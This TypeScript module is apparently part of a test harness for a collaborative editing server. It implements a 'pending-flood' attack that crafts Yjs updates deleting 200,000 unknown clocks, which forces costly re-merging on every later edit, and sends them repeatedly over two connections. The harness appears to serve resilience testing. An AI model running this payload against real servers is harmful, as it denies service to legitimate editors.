import * as encoding from 'lib0/encoding';
import { openRaw, syncMessage } from '../../support/collab';
import { CloseTally, type OffenderRoom, offenderRoom } from '../../support/offenderRoom';
import type { Attack, AttackContext, RunningAttack } from './types';

/** Deletions in each pending update (~800 KB: inside the byte budget of 1 MiB/s). */
const PENDING_RANGES = 200_000;
/** Connections sending one each per second. */
const CONNECTIONS = 2;

/**
 * An update that deletes `ranges` single clocks of a client the document has never seen: Yjs cannot
 * apply them, keeps them as a pending delete set, and reads and re-merges that on every later update
 * of the document, from anyone (each keystroke pays for all of it).
 */
export function pendingUpdate(ranges = PENDING_RANGES): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 0); // no structs
  encoding.writeVarUint(e, 1); // one client in the delete set
  encoding.writeVarUint(e, 1 + Math.floor(Math.random() * 0x7ffffffe));
  encoding.writeVarUint(e, ranges);
  for (let i = 0; i < ranges; i++) {
    encoding.writeVarUint(e, 2 * i);
    encoding.writeVarUint(e, 1);
  }
  return encoding.toUint8Array(e);
}

export interface RunningFlood extends RunningAttack {
  room: OffenderRoom;
  tally: CloseTally;
  /** Pending updates sent. */
  sent: () => number;
}

export async function startPendingFlood({ url, adminToken }: AttackContext): Promise<RunningFlood> {
  const room = await offenderRoom(url, adminToken);
  const tally = new CloseTally();
  let running = true;
  let sent = 0;
  const sender = async () => {
    while (running) {
      const raw = await openRaw(url, room.proposalId, room.offender.token);
      let open = true;
      void raw.closed.then(({ code }) => {
        open = false;
        if (running) tally.add(code);
      });
      while (running && open) {
        raw.send(syncMessage(2, pendingUpdate()));
        sent++;
        await new Promise((r) => setTimeout(r, 1000));
      }
      raw.ws.terminate();
    }
  };
  const senders = Array.from({ length: CONNECTIONS }, () => sender());
  return {
    room,
    tally,
    sent: () => sent,
    stop: async () => {
      running = false;
      await Promise.all(senders.map((s) => s.catch(() => {})));
      room.close();
      return `${sent} pending updates sent; closed: ${tally}`;
    },
  };
}

export const attack: Attack = {
  name: 'pending-flood',
  summary: `${CONNECTIONS} connections each send a ~800 KB update a second deleting ${PENDING_RANGES / 1000}k clocks the document lacks (Yjs keeps them pending)`,
  start: startPendingFlood,
};
